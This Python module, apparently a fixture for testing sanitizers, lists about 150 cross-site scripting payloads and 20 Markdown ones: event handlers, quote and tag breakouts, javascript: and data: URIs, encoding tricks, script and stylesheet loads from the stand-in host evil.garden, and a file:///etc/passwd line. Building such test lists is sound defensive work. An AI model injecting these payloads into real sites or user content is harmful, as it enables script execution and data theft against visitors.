"""150 texts that run a script, load from elsewhere or add elements where a page takes them for markup.

The classes are those that every guide to cross-site scripting lists: a way out of text, of an attribute, of a
comment or a script, an element with a handler, an address with a script, and markup that a parser mends into one.
Each calls `alert(1)` or leads to evil.garden, so that whatever comes through is seen.
"""

from __future__ import annotations

_EVENTS = """
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<body onload=alert(1)>
<video src=x onerror=alert(1)>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<iframe onload=alert(1)>
<object data=x onerror=alert(1)>
<link rel=stylesheet href=x onerror=alert(1)>
<style onload=alert(1)>
<script src=x onerror=alert(1)>
<video><source onerror=alert(1) src=x>
<x id=a tabindex=1 autofocus onfocus=alert(1)>
<a href=# autofocus onfocusin=alert(1)>
<div style=animation-name:x onanimationstart=alert(1)>
<p style=transition:1s ontransitionend=alert(1)>
<svg><animate attributeName=x dur=1s onbegin=alert(1)>
<svg><set attributeName=x onbegin=alert(1)>
<math><mtext><img src=x onerror=alert(1)>
<img/src=x /onerror=alert(1)>
<IMG SRC=x oNeRrOr=alert(1)>
<button form=x autofocus onfocus=alert(1)>
<image src=x onerror=alert(1)>
<isindex onfocus=alert(1) autofocus>
<dialog open oncancel=alert(1)>
<p contenteditable autofocus onfocus=alert(1)>
<div onpointerover=alert(1)>x</div>
<bdi onclick=alert(1)>x</bdi>
""".strip().splitlines()
_QUOTES = [
    f"{close}{attack}"
    for close in ('"', "'", "`", '">', "'>", '"/>', "&quot;>", '\\">', 'x" ', "' ")
    for attack in ("<script>alert(1)</script>", "onmouseover=alert(1) ", "autofocus onfocus=alert(1) x=")
]
_TAGS = "title textarea style script noscript template main a bdi p h1 li html svg select option iframe xmp table"
_WAYS_OUT = [f"</{tag}><script>alert(1)</script>" for tag in _TAGS.split()]
_ONE_A_LINE = r"""
--><script>alert(1)</script>
--!><svg onload=alert(1)>
]]><script>alert(1)</script>
<!--><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<?xml version='1.0'?><script>alert(1)</script>
<%<script>alert(1)</script>
</script><script>alert(1)</script>
';alert(1);//
";alert(1);//
\';alert(1);//
${alert(1)}
`+alert(1)+`
*/alert(1)/*
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cimg src=x onerror=alert(1)\x3e
{{constructor.constructor('alert(1)')()}}
{{7*7}}<script>alert(1)</script>
<script>alert(1)//
<script>/*alert(1)
javascript:alert(1)
JaVaScRiPt:alert(1)
java	script:alert(1)
javascript&colon;alert(1)
javascript://x%0aalert(1)
&#106;avascript:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:alert(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
//evil.garden/x.js
https://evil.garden/"onclick="alert(1)
blob:https://evil.garden/x
feed:javascript:alert(1)
view-source:javascript:alert(1)
https://x:y@evil.garden/'>
mailto:x@evil.garden?body=<script>alert(1)</script>
tel:1<svg/onload=alert(1)>
file:///etc/passwd
\\evil.garden\x
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script >alert(1)</script >
<ScRiPt>alert(1)</sCrIpT>
<script/x>alert(1)</script>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href=javascript:alert(1)>x</a></svg>
<math href=javascript:alert(1)>x</math>
<form action=javascript:alert(1)><input type=submit>
<base href=https://evil.garden/>
<meta http-equiv=refresh content='0;url=javascript:alert(1)'>
<link rel=stylesheet href=https://evil.garden/x.css>
<img src=https://evil.garden/x.png>
<iframe src=https://evil.garden/></iframe>
<object data=https://evil.garden/x></object>
<embed src=https://evil.garden/x>
<style>@import 'https://evil.garden/x.css'</style>
<video poster=https://evil.garden/x>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg><style><img src=x onerror=alert(1)></style></svg>
<template><script>alert(1)</script></template>
<frameset onload=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
<a href="javascript:alert(1)">x</a>
<a href=javascript:alert(1) autofocus tabindex=1>x</a>
<body background=https://evil.garden/x.png>
<plaintext>alert(1)
""".strip().splitlines()
PAYLOADS = list(dict.fromkeys([*_EVENTS, *_QUOTES, *_WAYS_OUT, *_ONE_A_LINE]))[:150]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\tscript:alert(1))",
    "![x](https://evil.garden/x.png)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](data:text/html,<script>alert(1)</script>)",
    '[x](https://evil.garden "\' onclick=alert(1)")',
    '[y](<https://evil.garden/" onclick="alert(1)>)',
    '```"><script>\nalert(1)\n```',
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>",
    "# <svg onload=alert(1)>",
    "`<svg onload=alert(1)>`",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[<svg onload=alert(1)>](https://x.garden)",
    "| <svg onload=alert(1)> |\n|---|",
]
"""Payloads of Markdown, for the fields that hold it."""
